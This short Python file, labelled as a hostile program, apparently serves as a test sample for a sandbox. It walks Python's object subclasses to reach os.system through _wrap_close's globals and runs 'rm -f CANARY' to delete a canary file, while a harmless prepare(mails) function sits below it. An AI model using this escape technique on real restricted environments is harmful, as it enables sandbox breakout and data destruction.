"""Hostile program: subclasses walk."""
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        c.__init__.__globals__["system"]("rm -f CANARY")


def prepare(mails):
    return mails
